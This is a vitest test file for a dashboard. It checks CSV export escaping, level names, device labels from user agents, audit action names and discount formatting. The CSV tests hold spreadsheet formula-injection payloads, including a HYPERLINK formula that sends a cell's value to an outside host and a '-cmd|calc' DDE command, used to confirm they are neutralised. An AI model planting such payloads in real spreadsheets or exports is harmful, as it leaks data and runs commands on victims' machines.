/** What the pages make of values: CSV files that no spreadsheet runs, devices, levels and audit actions by name. */
import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { EVENT_TYPES } from '@mps/shared';
import { LANGUAGES } from '@mps/shared/errors/language';
import { formatDiscount } from '@mps/shared/format';
import { GLOSSARY, nameOf } from '@mps/shared/glossary';
import { describe, expect, test } from 'vitest';

const SOURCES = fileURLToPath(new URL('../../client/dashboard/src/', import.meta.url));

// The dashboard is a page and no package that could be imported by its name: its files are named here, with the part
// of them that is looked at.
const { toCsv } = (await import(`${SOURCES}csv.ts`)) as {
  toCsv(rows: (string | number | null | undefined)[][]): string;
};
const { deviceText } = (await import(`${SOURCES}account/device.ts`)) as {
  deviceText(userAgent: string | null): string;
};

describe('a CSV file', () => {
  const cellOf = (value: string) =>
    toCsv([[value]])
      .replace('\uFEFF', '')
      .replace(/\r\n$/, '');

  test.each([
    '=HYPERLINK("http://example.com/?"&A1)',
    '+886912345678',
    '-cmd|calc',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('makes a text of %j, which a spreadsheet would run', (value) => {
    expect(cellOf(value).replace(/^"/, '')).toMatch(/^'/);
  });

  test.each([['-12.50'], ['0'], ['王小明'], ['P20261122-0001'], ['a=b']])('leaves %s as it is', (value) => {
    expect(cellOf(value)).toBe(value);
  });

  test('begins with a byte order mark, ends lines with CRLF, and quotes what would break a cell', () => {
    expect(
      toCsv([
        ['名稱', '備註'],
        ['a,b', 'say "hi"\nthere'],
        [null, undefined],
      ]),
    ).toBe('\uFEFF名稱,備註\r\n"a,b","say ""hi""\nthere"\r\n,\r\n');
  });
});

describe('a level', () => {
  test.each([
    ['en', ['Regular', 'Silver', 'Gold', 'Diamond']],
    ['zh-CN', ['普通会员', '银卡会员', '金卡会员', '钻石会员']],
    ['zh-TW', ['普通會員', '銀卡會員', '金卡會員', '鑽石會員']],
  ] as const)('has its name in %s, by the names that the database gives', (language, names) => {
    const table = new URL('../../server/supabase/schemas/tables/membership_levels.sql', import.meta.url);
    const tables = readFileSync(fileURLToPath(table), 'utf8');
    const given = [...tables.matchAll(/^ {2}\(\d, '([^']+)', \d+, [\d.]+\)/gm)].map(([, name = '']) => name);
    expect(given.map((name) => nameOf(language, 'level', name))).toEqual(names);
  });

  test('that an operator has renamed keeps its new name', () => {
    expect(nameOf('en', 'level', 'VIP')).toBe('VIP');
  });
});

describe('the device of a login', () => {
  const WINDOWS = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)';

  test.each([
    [`${WINDOWS} Chrome/143.0.0.0 Safari/537.36`, 'Chrome, Windows'],
    [`${WINDOWS} Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0`, 'Microsoft Edge, Windows'],
    [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
      'Safari, iOS',
    ],
    ['mps-cli/0.1.0', 'mps-cli/0.1.0'],
    ['', '—'],
    [null, '—'],
  ])('%s is called %s', (userAgent, text) => {
    expect(deviceText(userAgent)).toBe(text);
  });
});

describe('the audit log', () => {
  // What readers of events call them.
  const EVENTS: ReadonlySet<string> = new Set(EVENT_TYPES);
  const MIGRATIONS = fileURLToPath(new URL('../../server/supabase/migrations/', import.meta.url));
  const sql = readdirSync(MIGRATIONS)
    .map((name) => readFileSync(`${MIGRATIONS}${name}`, 'utf8'))
    .join('\n');
  const written = [...sql.matchAll(/'([a-z_]+\.[a-z_]+)'/g)]
    .map(([, name = '']) => name)
    .filter((name) => !/^(mps|supabase_migrations)\./.test(name) && !EVENTS.has(name));

  test('has a word for every action that the database writes', () => {
    expect(Object.keys(GLOSSARY.auditAction).sort()).toEqual([...new Set(written)].sort());
  });
});

describe('a discount', () => {
  test.each([
    [0.85, '85 折', '85 折', '15% off'],
    [0.9, '9 折', '9 折', '10% off'],
    [0.855, '85.5 折', '85.5 折', '14.5% off'],
    [0.05, '05 折', '05 折', '95% off'],
    [1, '無折扣', '无折扣', 'No discount'],
  ])('of the factor %d is said once', (factor, traditional, simplified, english) => {
    expect(LANGUAGES.map((language) => formatDiscount(factor, language))).toEqual([traditional, simplified, english]);
  });
});
